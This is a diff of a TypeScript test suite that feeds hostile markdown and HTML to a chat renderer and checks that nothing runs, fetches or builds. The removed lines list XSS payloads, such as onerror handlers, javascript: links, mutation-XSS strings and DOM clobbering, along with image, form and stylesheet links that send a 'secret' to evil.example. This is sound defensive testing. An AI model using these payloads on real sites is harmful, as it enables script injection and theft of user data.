@@ -1,14 +1,9 @@
 import {expect} from 'chai';
 import {Marked} from 'marked';
 import {GuardedFrame} from '../../support/markdown-guarded-frame.js';
-import type {Breach} from '../../support/markdown-guarded-page.js';
+import type {Breach, DrawMode} from '../../support/markdown-guarded-page.js';
+import {type HostileRow, ownHostileRows} from '../../support/markdown-hostile-rows.js';
 import {until} from '../../support/scripted-wire.js';
-
-interface Row {
-  readonly id: string;
-  readonly payload: string;
-  readonly chunks?: readonly string[];
-}
 
 interface Control {
   readonly id: string;
@@ -16,85 +11,109 @@ interface Control {
   readonly requests: readonly unknown[];
 }
 
-/** Our own, so that something is proven where the shared rows are not there. */
-const authored: readonly Row[] = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '![x](https://evil.example/?q=secret)',
-  '[x](javascript:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](java\nscript:alert(1))',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '[a][b]\n\n[b]: https://evil.example/?q=secret "t"',
-  '![a][b]\n\n[b]: https://evil.example/pixel.png',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<style>@import url(https://evil.example/x.css)</style>',
-  '<form action=https://evil.example><input type=submit></form>',
-  '<details ontoggle=alert(1) open><summary>x</summary></details>',
-  '| a |\n|---|\n| ![x](https://evil.example/t.png) |',
-  '> - [![x](https://evil.example/t.png)](https://evil.example)',
-  '```html" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
-  '<base href="https://evil.example/">',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<x id=body name=forms><img name=cookie>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<kbd onclick=alert(1)>x</kbd><kbd><script>alert(1)</script></kbd>',
-].map((payload, at) => ({id: `authored-${at}`, payload}));
-
 const isLong = Reflect.get(globalThis, 'LONG') === true;
+/** Of the shared rows, one of so many, and of our own. */
+const sampled = isLong ? {shared: 1, own: 1} : {shared: 10, own: 2};
+const looser = {math: 'formulas are set', sanitized: 'HTML is sanitised'};
+/** Rows for whose late reports is waited at once. */
+const batchSize = 25;
+/** Longer texts come in larger pieces where only a sample is asked for. */
+const mostPieces = isLong ? 10_000 : 150;
 
+/** Empty where the shared rows are not beside the project: our own then prove it alone. */
 async function corpus<Entry>(name: string): Promise<Entry[]> {
   const response = await fetch(`/__corpora/${name}`);
   return response.ok ? ((await response.json()) as Entry[]) : [];
 }
 
-/** Character by character where that is not too much, else in pieces of odd lengths. */
-function piecesOf({payload, chunks}: Row): readonly string[] {
-  if (chunks) return chunks;
-  const size = payload.length <= 300 ? 1 : 7;
-  return payload.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
+function inPieces(text: string, size: number): string[] {
+  return text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
 }
 
+/** The ways in which each row comes; none where a row has no pieces of its own. */
+const ways: Readonly<Record<string, (row: HostileRow) => readonly string[] | undefined>> = {
+  whole: ({payload}) => [payload],
+  'in its chunks': ({chunks}) => chunks,
+  'byte by byte': ({payload}) => inPieces(payload, Math.ceil(payload.length / mostPieces)),
+};
+
+const everyOf = <Row>(rows: readonly Row[], step: number, from = 0): Row[] =>
+  rows.filter((_, at) => at % step === from % step);
+
 describe('Hostile text', () => {
-  let rows: Row[] = [];
-  let sample: Row[] = [];
+  let shared: HostileRow[] = [];
   let frame: GuardedFrame;
 
   before(async () => {
-    rows = await corpus<Row>('xss-public.json');
-    sample = [...authored, ...rows.filter((_, at) => isLong || at % 10 === 0)];
+    shared = await corpus<HostileRow>('xss-public.json');
     // biome-ignore lint/suspicious/noConsole: the figure is part of the result
-    console.log(
-      `Hostile text: ${authored.length} rows of our own, ${sample.length - authored.length} of ${rows.length} shared`,
-    );
+    console.log(`Hostile text: ${ownHostileRows.length} rows of our own, ${shared.length} shared`);
   });
   afterEach(() => frame.close());
 
-  it('runs, fetches and builds nothing that it may not, at no prefix', async () => {
-    frame = await GuardedFrame.open({trustedTypes: 'chat-stream'});
+  /** Draws `rows` in `way` and tells which of them did what. */
+  async function breachesOf(rows: readonly HostileRow[], way: string, mode: DrawMode): Promise<string[]> {
+    const texts = rows.flatMap((row) => {
+      const pieces = ways[way]?.(row);
+      return pieces ? [{id: row.id, pieces}] : [];
+    });
     const seen: string[] = [];
-    for (const row of sample) {
-      for (const {what, detail} of await frame.page.draw(piecesOf(row), 'text'))
-        seen.push(`${row.id}: ${what} ${detail}`);
-    }
-    expect(seen).to.deep.equal([]);
-  }).timeout(isLong ? 1_800_000 : 120_000);
-
-  it('runs and fetches nothing where HTML is sanitised, and builds only what is on the list', async () => {
-    // Not strict: the sanitiser's inert document raises reports of what would be refused, though nothing in it runs.
-    frame = await GuardedFrame.open({trustedTypes: 'chat-stream', isStrict: false});
-    const seen: string[] = [];
-    for (const row of sample.filter((_, at) => isLong || at % 3 === 0)) {
-      for (const {what, detail} of await frame.page.draw([row.payload], 'sanitized')) {
-        if (what !== 'require-trusted-types-for') seen.push(`${row.id}: ${what} ${detail}`);
+    for (let at = 0; at < texts.length; at += batchSize) {
+      const batch = texts.slice(at, at + batchSize);
+      const breaches = await frame.page.drawAll(
+        batch.map(({pieces}) => pieces),
+        mode,
+      );
+      if (breaches.every(isExpected)) continue;
+      seen.push(
+        ...breaches.filter((breach) => !isExpected(breach)).map(({what, detail}) => `${what} ${detail}`),
+      );
+      // Once more, one by one, for their names.
+      for (const {id, pieces} of batch) {
+        for (const breach of await frame.page.draw(pieces, mode))
+          if (!isExpected(breach)) seen.push(`${id}: ${breach.what} ${breach.detail}`);
       }
     }
-    expect(seen).to.deep.equal([]);
-  }).timeout(isLong ? 1_800_000 : 120_000);
+    const pieces = texts.reduce((sum, text) => sum + text.pieces.length, 0);
+    // biome-ignore lint/suspicious/noConsole: the figures are part of the result
+    console.log(
+      `Hostile text ${way}, as ${mode}: ${texts.length} rows, ${pieces} prefixes, ${seen.length} breaches`,
+    );
+    return seen;
+  }
+
+  /** The sanitiser's inert document raises reports of what would be refused, though nothing in it runs. */
+  const isExpected = ({what}: Breach): boolean => what === 'require-trusted-types-for';
+
+  /** All requests so far have been told: this one, made last, has been. */
+  async function toldRequests(): Promise<readonly Breach[]> {
+    const last = new URL('/package.json?last', location.href).href;
+    frame.page.load(last);
+    const told = (): Breach[] => frame.page.seenLater().filter((breach) => !isExpected(breach));
+    await until(() => told().some(({detail}) => detail === last));
+    return told().filter(({detail}) => detail !== last);
+  }
+
+  for (const [at, way] of Object.keys(ways).entries()) {
+    it(`runs, fetches and builds nothing that it may not, at no prefix, ${way}`, async () => {
+      frame = await GuardedFrame.open({trustedTypes: 'chat-stream'});
+      const rows = [...everyOf(ownHostileRows, sampled.own, at), ...everyOf(shared, sampled.shared, at)];
+      expect(await breachesOf(rows, way, 'text')).to.deep.equal([]);
+    }).timeout(isLong ? 1_800_000 : 120_000);
+
+    for (const mode of ['math', 'sanitized'] as const) {
+      it(`runs and fetches nothing where ${looser[mode]}, and builds only what is on the list, ${way}`, async () => {
+        // Not strict: requests are made, and seen by that.
+        frame = await GuardedFrame.open({trustedTypes: 'chat-stream', isStrict: false});
+        const rows = [
+          ...everyOf(ownHostileRows, isLong ? 1 : sampled.own * 2, at),
+          ...everyOf(shared, isLong ? 1 : sampled.shared * 3, at),
+        ];
+        expect(await breachesOf(rows, way, mode)).to.deep.equal([]);
+        expect(await toldRequests()).to.deep.equal([]);
+      }).timeout(isLong ? 1_800_000 : 120_000);
+    }
+  }
 
   it('is seen to fetch by the page that fetches', async () => {
     frame = await GuardedFrame.open({isStrict: false});
@@ -111,16 +130,26 @@ describe('Hostile text', () => {
     const known = new Set(
       controls.filter(({fires, requests}) => fires || requests.length > 0).map(({id}) => id),
     );
-    const own = [authored[1], authored[2], authored[9], authored[16]].filter((row) => row !== undefined);
-    const firing = [...own, ...rows.filter(({id}) => known.has(id)).filter((_, at) => at % 10 === 0)];
+    const own = ownHostileRows.filter(
+      ({id, payload}) => id.startsWith('own text') && /onerror=|onload=|src=https/.test(payload),
+    );
+    const firing = [
+      ...own,
+      ...everyOf(
+        shared.filter(({id}) => known.has(id)),
+        isLong ? 1 : 5,
+      ),
+    ];
     const marked = new Marked();
-    let seen = 0;
-    for (const {payload} of firing) {
+    const unseen: string[] = [];
+    for (const {id, payload} of firing) {
       const breaches = await frame.page.drawRaw(marked.parse(payload, {async: false}));
-      if (breaches.length > 0) seen += 1;
+      if (breaches.length === 0) unseen.push(id);
     }
     // biome-ignore lint/suspicious/noConsole: the figure is part of the result
-    console.log(`Positive controls: ${seen} of ${firing.length} seen`);
-    expect(seen).to.be.at.least(Math.ceil(firing.length * 0.8));
+    console.log(
+      `Positive controls: ${firing.length - unseen.length} of ${firing.length} seen, not: ${unseen.join(', ')}`,
+    );
+    expect(unseen.length).to.be.at.most(firing.length * 0.2);
   }).timeout(isLong ? 1_800_000 : 60_000);
 });
